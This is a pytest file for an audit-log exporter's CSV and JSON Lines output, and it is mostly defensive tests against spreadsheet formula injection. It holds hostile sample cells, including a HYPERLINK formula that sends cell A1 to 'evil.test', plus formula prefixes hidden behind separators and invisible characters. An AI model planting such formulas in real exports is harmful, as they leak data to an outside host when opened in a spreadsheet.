"""The export of the audit log: CSV and JSON Lines."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from gatepost.audit_log.exporting import COLUMNS, csv_text, json_lines, weight
from gatepost.model.audit_entry import AuditEntry

ENTRY = AuditEntry(
    entry_id="e1",
    at=1_800_000_000.25,
    event="app_changed",
    actor="alice-id",
    actor_name="alice",
    client_id="web-id",
    subject='Shop "north", Zürich',
    source_ip="192.0.2.7",
    resources=("https://a.test", "https://b.test"),
    changes=("name", "Web", "Shop", "redirect URI", "", "https://new.test/cb"),
)


def rows(*entries: AuditEntry) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(csv_text(entries), newline="")))


def test_a_row_has_every_column() -> None:
    assert rows(ENTRY) == [
        {
            "time": "2027-01-15T08:00:00.250Z",
            "event": "app_changed",
            "actor": "alice",
            "actor_id": "alice-id",
            "subject": 'Shop "north", Zürich',
            "subject_user_id": "",
            "client_id": "web-id",
            "reason": "",
            "changes": "name: Web → Shop; redirect URI: none → https://new.test/cb",
            "resources": "https://a.test https://b.test",
            "source_ip": "192.0.2.7",
            "request_id": "",
            "entry_id": "e1",
        }
    ]


def test_a_line_of_json_has_the_same_names_with_changes_apart() -> None:
    lines = json_lines([ENTRY, ENTRY._replace(entry_id="e2", subject="a\nb")]).splitlines()

    first, second = map(json.loads, lines)
    assert tuple(first) == COLUMNS
    assert first["changes"][0] == {"field": "name", "before": "Web", "after": "Shop"}
    assert first["resources"] == ["https://a.test", "https://b.test"]
    assert second["subject"] == "a\nb"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_s241_a_cell_that_a_spreadsheet_would_compute_is_text(start: str) -> None:
    formula = f'{start}HYPERLINK("https://evil.test?"&A1)'
    hostile = ENTRY._replace(
        actor_name=formula, subject=formula, reason=formula, changes=(formula, "", ""), resources=(formula,)
    )

    (row,) = rows(hostile)
    assert [name for name, cell in row.items() if cell.startswith(start)] == []
    assert row["subject"] == f"'{formula}"
    assert json.loads(json_lines([hostile]))["subject"] == formula


@pytest.mark.parametrize("separator", [";", ",", "\t", "|", "\n", "\r\n"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "﹢", "\u2212"])
@pytest.mark.parametrize("before", ["", " ", '"', ' "" ', "\u00a0", "\ufeff"])
def test_s241_no_cell_holds_a_formula_by_another_separator(separator: str, start: str, before: str) -> None:
    hostile = ENTRY._replace(subject=f"Shop{separator}{before}{start}1+1", changes=("name", "", f"x;{start}1"))

    text = csv_text([hostile])
    cells = re.split(r"[;,|\t\r\n]", text)
    assert [cell for cell in cells if cell.strip(' "\u00a0\ufeff').startswith(start)] == []
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["subject"].replace("'", "") == hostile.subject


def test_every_cell_is_quoted_so_none_can_begin_another_and_a_text_without_a_formula_is_as_it_was() -> None:
    subject = "Shop; north, a=b, 1-2 | x@y.test (10 - 5)"
    assert rows(ENTRY._replace(subject=subject))[0]["subject"] == subject

    head, row = csv_text([ENTRY._replace(subject='x",=1+1,"')]).splitlines()

    assert head.startswith('"time","event",')
    assert '"x"",\'=1+1,"""' in row


@pytest.mark.parametrize("subject", ["", '"' * 60, "é" * 60, "\U0001f600" * 60, "\x00" * 60, ";=" * 60, ",\t-" * 40])
def test_the_weight_of_an_entry_is_at_least_what_it_takes_of_lambdas_response(subject: str) -> None:
    entry = ENTRY._replace(subject=subject, changes=(subject, subject, subject))
    one, two = ([entry] * count for count in (1, 2))

    for written in (csv_text, json_lines):
        assert len(json.dumps(written(two))) - len(json.dumps(written(one))) <= weight(entry)
